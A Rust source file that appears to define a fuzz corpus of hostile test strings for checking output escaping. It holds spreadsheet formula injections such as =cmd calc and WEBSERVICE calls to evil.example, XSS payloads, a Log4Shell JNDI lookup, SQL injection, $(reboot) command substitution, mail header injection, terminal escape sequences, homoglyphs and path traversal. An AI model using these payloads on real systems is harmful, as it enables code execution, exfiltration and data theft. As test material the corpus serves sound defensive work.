//! Text that means something to a spreadsheet, a parser, a browser, a mail server, a template, a terminal or a reader.

/// As long as no cell, no terminal and no page should show in full.
pub(crate) const LONGEST: usize = 200_000;

/// What a page must not carry out: each of these would leave this word as an id in the document.
pub(crate) const EFFECT: &str = "pwned";

/// The strings, each different.
pub(crate) fn corpus() -> Vec<String> {
    let mut corpus: Vec<String> = SPREADSHEETS
        .iter()
        .chain(PARSERS)
        .chain(MARKUP)
        .chain(TERMINALS)
        .chain(READERS)
        .chain(NAMES)
        .map(|text| (*text).to_owned())
        .collect();
    corpus.push("x".repeat(LONGEST));
    corpus.push(format!("={}", "😀\u{202e}".repeat(LONGEST / 2)));
    // Every control character in one string, and each as a first one that nobody expects.
    corpus.push((0..0x20).chain(0x7f..0xa0).filter_map(char::from_u32).collect());
    corpus
}

const SPREADSHEETS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "王（IT) 王小明［at]x（at）y％40z",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "'=1",
    "''",
    "'plain",
    // Where the list separator is a semicolon or a tab, or line ends in quotes are not understood, a cell begins here.
    "x;=cmd|'/C calc'!A0;y",
    "x;=1+cmd|'/c calc'!A1;y",
    "x;\"=cmd|'/C calc'!A0;y",
    "x\t=1+1\ty",
    "x\r\n=cmd|'/C calc'!A0;y",
    "x\n@SUM(1);+1;-1;＝1",
    "x;'=1;''",
    "1e5",
    "00012",
    "2026-11-23",
    "TRUE",
    "#REF!",
    "_x0041_ _x000D_",
    "{=1}",
    "&A &P &[Page]",
];

const PARSERS: &[&str] = &[
    "\"",
    "\",;\r\n'",
    "\"\"\"",
    ",,,",
    ";;;",
    "a\r\nb",
    "a\rb",
    "a\nb",
    "x\r\nBcc: eve@evil.example\r\n\r\nbody",
    "x\n.\nMAIL FROM:<eve@evil.example>",
    "\\",
    "\\u0000\\x00\\n",
    "null",
    "[]]>",
    "]]>",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "&amp; &lt; &#0; &bogus;",
    "<?xml version=\"1.0\"?>",
    "' OR 1=1 --",
    "%00 %2e%2e%2f %n%s",
    "${jndi:ldap://evil.example/a}",
    "$(reboot) `reboot`",
];

const MARKUP: &[&str] = &[
    "<script>document.documentElement.id='pwned'</script>",
    "</title><script>document.documentElement.id='pwned'</script>",
    "</style><script>document.documentElement.id='pwned'</script>",
    "\"><img src=http://evil.example/x onerror=\"document.documentElement.id='pwned'\">",
    "'><svg/onload=document.documentElement.id='pwned'>",
    "<a href=\"javascript:document.documentElement.id='pwned'\">x</a>",
    "<iframe src=\"http://evil.example/\"></iframe>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<base href=http://evil.example/>",
    "http://evil.example/",
    "{{7*7}}",
    "{{ run.id|safe }}",
    "{% raw %}",
    "{% for x in range(1000000000) %}x{% endfor %}",
    "{# comment",
];

const TERMINALS: &[&str] = &[
    "\0",
    "a\0b",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]8;;http://evil.example/\u{1b}\\link\u{1b}]8;;\u{7}",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31mred",
    "\u{9d}0;title\u{9c}",
    "\u{7f}\u{8}\u{8}",
    "over\rwritten",
];

const READERS: &[&str] = &[
    "nimda\u{202e}txt.exe",
    "\u{2066}\u{2067}isolated\u{2069}",
    "\u{61c}\u{200e}\u{200f}",
    "ad\u{200b}min",
    "\u{feff}bom",
    "a\u{2028}b\u{2029}c",
    "\u{fffe}\u{ffff}\u{fffd}",
    "👩\u{200d}💻 👍🏽 🏳\u{fe0f}\u{200d}🌈",
    "e\u{301} \u{1e9}\u{327}",
    "аdmin",
    "ﷺ ﬁ",
    "\u{e000}\u{10ffff}\u{e0041}",
    "\u{3164}",
    "山田　太郎",
];

const NAMES: &[&str] = &[
    "../../x",
    "/etc/passwd",
    "CON",
    "aux.txt",
    "~",
    "-rf",
    "--help",
    "global-admin ",
    "[Content_Types].xml",
    "a/b?c#d:*",
];
